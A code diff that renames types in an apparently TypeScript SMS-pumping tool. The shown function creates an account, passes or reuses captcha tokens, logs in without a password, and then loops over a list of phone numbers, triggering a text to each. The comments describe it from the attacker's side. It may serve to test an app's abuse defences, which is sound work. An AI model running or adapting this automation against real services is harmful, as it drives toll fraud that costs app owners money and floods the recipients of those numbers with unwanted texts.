@@ -6,7 +6,7 @@
 import { pbkdf2Sync } from 'node:crypto';
 
 /** The routes and services that the attacker can reach. */
-export interface Target {
+export interface SmsPumpTarget {
   readonly url: string;
   readonly appId: string;
   /** A page of the app's. */
@@ -28,16 +28,16 @@ export type Way = keyof typeof ways;
 /** The attacker's use of the app's captcha. */
 export type Manner = 'without captchas' | 'with captchas' | 'with one captcha for all';
 
-export interface Answer {
+export interface SendResponse {
   readonly status: number;
   readonly code: string | undefined;
 }
 
 /** Makes an account, has so many numbers texted, and gives what was answered to each. */
 export async function pump(
-  target: Target,
+  target: SmsPumpTarget,
   { email, way, manner, numbers }: { email: string; way: Way; manner: Manner; numbers: readonly string[] },
-): Promise<Answer[]> {
+): Promise<SendResponse[]> {
   const { post, passCaptcha } = createProgram(target);
   const token = await passCaptcha();
   await post('/api/v1/passwordless/init', { email, ...(token ? { token } : {}) });
@@ -45,7 +45,7 @@ export async function pump(
   const login = await post('/api/v1/passwordless/authenticate', { email, code });
   const bearer = String(login.json.token);
   const shared = manner === 'with one captcha for all' ? await passCaptcha() : null;
-  const answers: Answer[] = [];
+  const answers: SendResponse[] = [];
   for (const phoneNumber of numbers) {
     const passed = manner === 'with captchas' ? await passCaptcha() : shared;
     const { path, body } = ways[way];
@@ -57,7 +57,7 @@ export async function pump(
   return answers;
 }
 
-function createProgram({ appId, origin, send, url }: Target) {
+function createProgram({ appId, origin, send, url }: SmsPumpTarget) {
   async function post(path: string, body: object, bearer?: string) {
     const headers: Record<string, string> = {
       'content-type': 'application/json',
